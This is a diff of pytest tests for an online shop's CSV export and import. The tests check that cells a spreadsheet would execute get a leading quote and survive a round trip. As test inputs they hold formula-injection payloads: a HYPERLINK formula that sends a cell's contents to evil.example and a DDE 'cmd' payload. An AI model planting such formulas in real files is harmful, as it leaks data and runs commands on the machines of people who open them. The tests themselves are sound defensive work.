@@ -253,3 +253,130 @@ def test_a_file_that_is_not_utf8_is_refused(shop, owner):
     with pytest.raises(ImportJobError):
         csv_io.start_import(shop=shop, by=owner, file=upload)
     assert not ProductJob.objects.exists()
+
+
+# --- Formula injection: merchant text a spreadsheet would run is escaped, and reads back ------
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
+
+
+def run_export(shop, owner):
+    job = csv_io.start_export(shop=shop, by=owner)
+    tasks.run_product_job(job.pk)
+    job.refresh_from_db()
+    assert job.status == JobStatus.DONE
+    with job.result.open("rb") as file:
+        return file.read().decode("utf-8-sig")
+
+
+def exported_rows(text):
+    return {r["sku"].lstrip("'"): r for r in csv.DictReader(io.StringIO(text))}
+
+
+def snapshot(product):
+    product.refresh_from_db()
+    variants = [
+        (v.sku, v.barcode, v.price, v.compare_at_price, v.stock, v.is_active)
+        for v in product.variants.order_by("pk")
+    ]
+    return (product.title, product.subtitle, product.description, product.brand_id, variants)
+
+
+@pytest.mark.parametrize(
+    ("column", "text"),
+    [
+        ("title", HYPERLINK),
+        ("title", "+1+cmd|' /C calc'!A0"),
+        ("title", "-2+3"),
+        ("subtitle", "@SUM(1,1)"),
+        ("barcode", "\t=1+1"),
+        ("barcode", "\r=1+1"),
+        ("sku", "=1+1"),
+        ("subtitle", "'=1+1"),  # the merchant's own quote survives: one more is added
+    ],
+)
+def test_export_puts_a_quote_before_merchant_text_a_spreadsheet_would_run(
+    shop, owner, shirts, column, text
+):
+    run_import(shop, owner, csv_text([row()]))
+    product = Product.objects.get()
+    if column in ("title", "subtitle"):
+        Product.objects.filter(pk=product.pk).update(**{column: text})
+    else:
+        product.variants.update(**{column: text})
+    exported = list(csv.DictReader(io.StringIO(run_export(shop, owner))))
+    assert len(exported) == 1
+    assert exported[0][column] == "'" + text
+    others = {k: v for k, v in exported[0].items() if k != column}
+    assert not any(v.startswith("'") for v in others.values())
+
+
+def test_export_writes_numbers_as_numbers(shop, owner, shirts):
+    run_import(shop, owner, csv_text([row(price_tiers="10:18.00", compare_at_price="30.00")]))
+    Product.objects.update(title="-5")  # a title that is a plain number reads as a number
+    exported = next(csv.DictReader(io.StringIO(run_export(shop, owner))))
+    assert {
+        k: exported[k]
+        for k in (
+            "title",
+            "min_order_quantity",
+            "price",
+            "compare_at_price",
+            "stock",
+            "low_stock_threshold",
+            "weight_grams",
+            "price_tiers",
+        )
+    } == {
+        "title": "-5",
+        "min_order_quantity": "1",
+        "price": "20.00",
+        "compare_at_price": "30.00",
+        "stock": "5",
+        "low_stock_threshold": "2",
+        "weight_grams": "200",
+        "price_tiers": "10:18.00",
+    }
+
+
+def test_an_export_with_escaped_cells_imports_back_without_changing_the_product(
+    shop, owner, shirts
+):
+    run_import(
+        shop,
+        owner,
+        csv_text(
+            [
+                row(title=HYPERLINK, subtitle="'Tis the season", description="-one", sku="=A1"),
+                row(sku="@B2", options="colour=Blue", barcode="+44 20 7946 0000"),
+            ]
+        ),
+    )
+    product = Product.objects.get()
+    before = snapshot(product)
+    assert before[:3] == (HYPERLINK, "'Tis the season", "-one")
+    exported = run_export(shop, owner)
+    rows = exported_rows(exported)
+    assert (rows["=A1"]["title"], rows["=A1"]["sku"], rows["@B2"]["barcode"]) == (
+        "'" + HYPERLINK,
+        "'=A1",
+        "'+44 20 7946 0000",
+    )
+    movements = StockMovement.objects.count()
+    again = run_import(shop, owner, exported)
+    assert (again.errors, again.updated_products, again.created_products) == ([], 1, 0)
+    assert snapshot(product) == before
+    assert StockMovement.objects.count() == movements
+    assert run_export(shop, owner) == exported
+
+
+def test_the_error_report_escapes_the_merchant_text_it_quotes(shop, owner, shirts):
+    sku = '=HYPERLINK("http://evil.example","x")'
+    job = run_import(shop, owner, csv_text([row(sku=sku, compare_at_price="10.00")]))
+    assert len(job.errors) == 1
+    assert job.errors[0]["message"].startswith(sku)  # the job keeps the text as it was
+    report = list(csv.reader(io.StringIO(csv_io.error_report_csv(job=job))))
+    assert report == [
+        ["row", "column", "message"],
+        ["2", "compare_at_price", "'" + job.errors[0]["message"]],
+    ]
